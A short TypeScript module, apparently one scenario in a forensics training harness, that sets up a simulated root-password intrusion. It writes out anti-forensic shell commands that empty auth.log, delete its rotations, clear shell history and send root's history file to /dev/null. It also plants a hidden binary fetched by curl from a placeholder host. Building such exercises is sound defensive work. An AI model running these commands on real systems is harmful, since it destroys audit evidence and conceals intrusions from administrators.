// He empties auth.log and his history, and does not know of the journal.
import type { Dress } from '../../dress.ts'
import type { Stage } from '../../stage.ts'
import { guessedIn, weakRoot } from '../../weak-root.ts'

export function dress(dress: Dress): void {
  weakRoot(dress)
}

export async function plant(stage: Stage): Promise<void> {
  const wiping = '; : >/var/log/auth.log; rm -f /var/log/auth.log.*; history -c; ln -sf /dev/null /root/.bash_history'
  await guessedIn(stage, '203.0.113.71', { path: '/root/.cache/.x/sysd', fetch: 'curl' }, wiping)
}
